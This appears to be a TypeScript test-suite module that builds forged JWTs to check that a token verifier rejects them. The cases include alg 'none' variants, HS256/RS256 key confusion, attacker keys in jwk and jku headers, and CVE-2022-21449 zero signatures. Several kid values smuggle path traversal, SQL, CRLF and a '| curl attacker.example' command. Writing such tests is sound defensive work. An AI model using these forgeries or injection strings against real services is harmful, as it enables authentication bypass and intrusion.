import { createPrivateKey, createPublicKey, generateKeyPairSync } from 'node:crypto';
import { base64url, type Forgery } from '../forge.ts';
import type { AttackCase, Kit } from '../types.ts';
import { signedCase, slug, tokenCase } from './shorthand.ts';

/** A good token's three parts. */
const parts = (token: string): [string, string, string] => token.split('.') as [string, string, string];

const forged = (id: string, title: string, source: string, forgery: (kit: Kit) => Forgery): AttackCase =>
  tokenCase({ id, title, source, token: (kit) => kit.forge.forged(forgery(kit)) });

const unsigned: readonly AttackCase[] = [
  ['none', 'none'],
  ['capitalised', 'None'],
  ['capitals', 'NONE'],
  ['mixed', 'nOnE'],
  ['empty', ''],
  ['with-space', 'none '],
].map(([id, alg]) =>
  forged(`unsigned/${id}`, `alg "${alg}", no signature`, 'RFC 8725 §3.2; Auth0 validate.test', () => ({
    header: { alg },
    algorithm: 'none',
  })),
);

const unsignedButSigned: readonly AttackCase[] = [
  tokenCase({
    id: 'unsigned/attacker-signature',
    title: 'alg "none", signed by an attacker all the same',
    source: 'RFC 8725 §3.2',
    token: (kit) => kit.forge.forged({ header: { alg: 'none' } }),
  }),
  tokenCase({
    id: 'unsigned/good-signature',
    title: 'alg "none" put before a good payload and signature',
    source: 'RFC 8725 §3.1',
    needs: 'key',
    token: (kit) => {
      const [, payload, signature] = parts(kit.forge.token());
      return `${base64url('{"alg":"none","typ":"at+jwt"}')}.${payload}.${signature}`;
    },
  }),
  tokenCase({
    id: 'unsigned/stripped',
    title: 'a good token without its signature',
    source: 'RFC 8725 §2.1; Envoy jwt_test InvalidSignature',
    needs: 'key',
    token: (kit) => parts(kit.forge.token()).slice(0, 2).join('.'),
  }),
  tokenCase({
    id: 'unsigned/stripped-with-dot',
    title: 'a good token with an empty signature',
    source: 'RFC 8725 §2.1',
    needs: 'key',
    token: (kit) => `${parts(kit.forge.token()).slice(0, 2).join('.')}.`,
  }),
];

/** The public key as an HMAC secret, in every form in which servers keep it. */
const confusedSecrets = [
  'SPKI PEM',
  'SPKI PEM without its last line break',
  'SPKI DER',
  'PKCS #1 PEM',
  'JWK as JSON',
  'modulus as base64url',
  'modulus as bytes',
  'nothing',
];

const confused: readonly AttackCase[] = confusedSecrets.map((shape) =>
  tokenCase({
    id: `hmac/${slug(shape)}`,
    title: `HS256 keyed with the public key: ${shape}`,
    source: 'RFC 8725 §2.1; Auth0 jwt-verifier.test "reject HS256"',
    token: ({ forge }) => {
      const secret = forge.publicKeyAsSecret().find(([name]) => name === shape)?.[1];
      return forge.token({ algorithm: 'HS256', key: secret ?? Buffer.alloc(0) });
    },
  }),
);

const confusedMore: readonly AttackCase[] = ['HS384', 'HS512'].map((algorithm) =>
  tokenCase({
    id: `hmac/${slug(algorithm)}`,
    title: `${algorithm} keyed with the public key as PEM`,
    source: 'RFC 8725 §2.1',
    token: ({ forge }) =>
      forge.token({ algorithm, key: forge.publicKeyAsSecret()[0]?.[1] ?? Buffer.alloc(0) }),
  }),
);

/** An attacker's key under every kind of key id. */
const kids: ReadonlyArray<readonly [name: string, kid: (kit: Kit) => unknown]> = [
  ['the published id', ({ forge }) => forge.kid],
  ['an unknown id', () => 'snk_0000000000000000'],
  ['no id', () => undefined],
  ['an empty id', () => ''],
  ['a path', () => '../../../../../../dev/null'],
  ['a URL', ({ trap }) => trap],
  ['SQL', () => "x' UNION SELECT 'key"],
  ['a command', () => '| curl attacker.example'],
  ['NUL', () => 'snk_\u0000'],
  ['CR and LF', () => 'snk\r\nSet-Cookie: a=b'],
  ['a terminal escape', () => '\u001b[2J\u001b[31msnk'],
  ['8 KB', () => 'k'.repeat(8192)],
  ['__proto__', () => '__proto__'],
  ['a number', () => 1],
  ['an object', () => ({ toString: 'x' })],
  ['an array', ({ forge }) => [forge.kid]],
  ['true', () => true],
];

const attackersKey: readonly AttackCase[] = kids.map(([name, kid]) =>
  forged(
    `kid/${slug(name)}`,
    `signed by an attacker's key under ${name}`,
    name === 'a number' ? 'Envoy jwt_test BadFormatKid' : 'RFC 8725 §3.10',
    (kit) => ({ header: { kid: kid(kit) } }),
  ),
);

const goodKeyOddKid: readonly AttackCase[] = [
  signedCase(
    'kid/good-key-unknown-id',
    'the right key under an id that is not published',
    'RFC 7515 §4.1.4',
    () => ({
      header: { kid: 'snk_0000000000000009' },
    }),
  ),
];

/** Keys carried by the token itself: none may be believed, and none fetched. */
const injected: ReadonlyArray<readonly [name: string, header: (kit: Kit) => Record<string, unknown>]> = [
  ['jwk', ({ forge }) => ({ jwk: forge.attackerJwk })],
  ['jwk without kid', ({ forge }) => ({ jwk: forge.attackerJwk, kid: undefined })],
  ['jwk with the published kid inside', ({ forge }) => ({ jwk: { ...forge.attackerJwk, kid: forge.kid } })],
  ['jku', ({ trap }) => ({ jku: `${trap}/keys.json` })],
  ['jku without kid', ({ trap }) => ({ jku: `${trap}/keys.json`, kid: undefined })],
  ['x5u', ({ trap }) => ({ x5u: `${trap}/chain.pem` })],
  [
    'x5c',
    ({ forge }) => ({
      x5c: [createPublicKey(forge.attacker).export({ type: 'spki', format: 'der' }).toString('base64')],
    }),
  ],
  ['x5t', () => ({ x5t: 'AAAAAAAAAAAAAAAAAAAAAAAAAAA', 'x5t#S256': 'A'.repeat(43) })],
];

const carriedKeys: readonly AttackCase[] = injected.map(([name, header]) =>
  forged(`carried-key/${slug(name)}`, `the token brings its own key: ${name}`, 'RFC 8725 §3.10', (kit) => ({
    header: header(kit),
  })),
);

const otherAlgorithms: readonly AttackCase[] = ['RS384', 'RS512', 'PS256', 'PS384', 'PS512'].flatMap(
  (algorithm) => [
    tokenCase({
      id: `algorithm/${slug(algorithm)}-attacker`,
      title: `${algorithm} by an attacker's key under the published id`,
      source: 'RFC 8725 §3.1',
      token: (kit) => kit.forge.forged({ algorithm }),
    }),
    {
      ...signedCase(
        `algorithm/${slug(algorithm)}-good-key`,
        `${algorithm} by the right key, which is published for RS256`,
        'RFC 8725 §3.1; RFC 7517 §4.4',
        () => ({ algorithm }),
      ),
    },
  ],
);

const curves: readonly AttackCase[] = [
  tokenCase({
    id: 'algorithm/es256',
    title: 'ES256 by an attacker under the published id',
    source: 'RFC 8725 §3.1',
    token: ({ forge }) =>
      forge.token({ algorithm: 'ES256', key: generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey }),
  }),
  tokenCase({
    id: 'algorithm/eddsa',
    title: 'EdDSA by an attacker under the published id',
    source: 'RFC 8725 §3.1',
    token: ({ forge }) => forge.token({ algorithm: 'EdDSA', key: generateKeyPairSync('ed25519').privateKey }),
  }),
  tokenCase({
    id: 'algorithm/psychic-signature',
    title: 'ES256 with a signature of zeros (CVE-2022-21449)',
    source: 'CVE-2022-21449',
    token: ({ forge }) => {
      const [header, payload] = parts(
        forge.token({
          algorithm: 'ES256',
          key: generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey,
        }),
      );
      return `${header}.${payload}.${base64url(Buffer.alloc(64))}`;
    },
  }),
  tokenCase({
    id: 'algorithm/weak-rsa',
    title: 'RS256 by a 1024-bit key of an attacker',
    source: 'RFC 7518 §3.3',
    token: ({ forge }) =>
      forge.token({
        key: createPrivateKey(
          generateKeyPairSync('rsa', { modulusLength: 1024 }).privateKey.export({
            type: 'pkcs8',
            format: 'pem',
          }),
        ),
      }),
  }),
];

/** Values of `alg` that are not an algorithm; the signature is the right key's RS256. */
const oddAlg: ReadonlyArray<readonly [name: string, alg: unknown, source: string]> = [
  ['absent', undefined, 'Envoy jwt_test AbsentAlg; Auth0 jwt-verifier.test'],
  ['a number', 256, 'Envoy jwt_test AlgIsNotString'],
  ['unknown', 'InvalidAlg', 'Envoy jwt_test InvalidAlg'],
  ['lower case', 'rs256', 'RFC 7515 §4.1.1'],
  ['with a space', 'RS256 ', 'RFC 7515 §4.1.1'],
  ['a list', ['RS256'], 'RFC 7515 §4.1.1'],
  ['null', null, 'RFC 7515 §4.1.1'],
  ['an object', { alg: 'RS256' }, 'RFC 7515 §4.1.1'],
  ['a JWE algorithm', 'RSA-OAEP-256', 'RFC 8725 §3.1'],
];

const oddAlgorithms: readonly AttackCase[] = oddAlg.map(([name, alg, source]) =>
  signedCase(`alg/${slug(name)}`, `alg is ${name}, the signature is good`, source, () => ({
    header: { alg },
  })),
);

/** What is done to a good token's signature. */
const tampered: ReadonlyArray<readonly [name: string, change: (kit: Kit) => string, source: string]> = [
  [
    'one bit flipped',
    (kit) =>
      changeSignature(kit, (bytes) => {
        bytes[100] = (bytes[100] ?? 0) ^ 1;
        return bytes;
      }),
    'Auth0 jwt-verifier.test',
  ],
  [
    'cut in half',
    (kit) => changeSignature(kit, (bytes) => bytes.subarray(0, 128)),
    'Envoy jwt_test InvalidSignature',
  ],
  [
    'one byte longer',
    (kit) => changeSignature(kit, (bytes) => Buffer.concat([bytes, Buffer.of(0)])),
    'RFC 8725 §3.2',
  ],
  ['all zeros', (kit) => changeSignature(kit, () => Buffer.alloc(256)), 'RFC 8725 §3.2'],
  [
    'of another good token',
    ({ forge }) => {
      const [header, payload] = parts(forge.token());
      return `${header}.${payload}.${parts(forge.token({ claims: { jti: 'other' } }))[2]}`;
    },
    'RFC 8725 §3.2',
  ],
  [
    'of its header alone',
    ({ forge }) => {
      const [header, payload] = parts(forge.token());
      return `${header}.${payload}.${header}`;
    },
    'RFC 8725 §3.2',
  ],
];

function changeSignature({ forge }: Kit, change: (bytes: Buffer) => Uint8Array): string {
  const [header, payload, signature] = parts(forge.token());
  return `${header}.${payload}.${base64url(change(Buffer.from(signature, 'base64url')))}`;
}

const tamperedSignatures: readonly AttackCase[] = tampered.map(([name, token, source]) =>
  tokenCase({
    id: `signature/${slug(name)}`,
    title: `a good token whose signature is ${name}`,
    source,
    needs: 'key',
    token,
  }),
);

const swapped: readonly AttackCase[] = [
  tokenCase({
    id: 'signature/payload-of-an-administrator',
    title: "a good token's payload replaced: another subject",
    source: 'RFC 8725 §3.2',
    needs: 'key',
    token: ({ forge }) => {
      const [header, , signature] = parts(forge.token());
      return `${header}.${base64url(JSON.stringify(forge.claims({ sub: 'usr_administrator' })))}.${signature}`;
    },
  }),
  tokenCase({
    id: 'signature/parts-in-another-order',
    title: "a good token's payload and header changed places",
    source: 'RFC 7515 §7.1',
    needs: 'key',
    token: ({ forge }) => {
      const [header, payload, signature] = parts(forge.token());
      return `${payload}.${header}.${signature}`;
    },
  }),
  tokenCase({
    id: 'signature/header-changed',
    title: "a good token's header replaced: typ JWT in place of at+jwt",
    source: 'RFC 8725 §3.2',
    needs: 'key',
    token: ({ forge }) => {
      const [, payload, signature] = parts(forge.token());
      return `${base64url(JSON.stringify({ alg: 'RS256', typ: 'JWT', kid: forge.kid }))}.${payload}.${signature}`;
    },
  }),
];

/** Critical header parameters that nobody here understands (RFC 7515 §4.1.11). */
const criticals: ReadonlyArray<readonly [name: string, header: Record<string, unknown>]> = [
  ['an unknown extension', { crit: ['https://attacker.example/x'], 'https://attacker.example/x': true }],
  ['a name without its parameter', { crit: ['exp'] }],
  ['an empty list', { crit: [] }],
  ['a string', { crit: 'exp', exp: 1 }],
  ['a registered name', { crit: ['alg'] }],
  ['an unencoded payload', { crit: ['b64'], b64: false }],
  ['null', { crit: null }],
];

const critical: readonly AttackCase[] = criticals.map(([name, header]) =>
  signedCase(`crit/${slug(name)}`, `crit is ${name}`, 'RFC 7515 §4.1.11; RFC 7797', () => ({ header })),
);

/** Tokens whose cryptography is wrong. */
export const signatureCases: readonly AttackCase[] = [
  ...unsigned,
  ...unsignedButSigned,
  ...confused,
  ...confusedMore,
  ...attackersKey,
  ...goodKeyOddKid,
  ...carriedKeys,
  ...otherAlgorithms,
  ...curves,
  ...oddAlgorithms,
  ...tamperedSignatures,
  ...swapped,
  ...critical,
];
